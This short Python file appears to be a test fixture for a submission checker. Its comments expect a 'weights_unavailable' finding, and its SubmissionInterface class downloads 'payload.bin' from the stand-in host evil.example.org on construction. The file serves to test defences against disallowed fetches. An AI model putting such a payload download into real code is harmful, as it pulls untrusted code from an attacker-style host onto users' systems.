"""Fetch from a host that is not allowed."""
# finding: weights_unavailable
# says: host is not one

import gdown


class SubmissionInterface:
    def __init__(self):
        gdown.download("https://evil.example.org/payload.bin", "payload.bin", quiet=False)
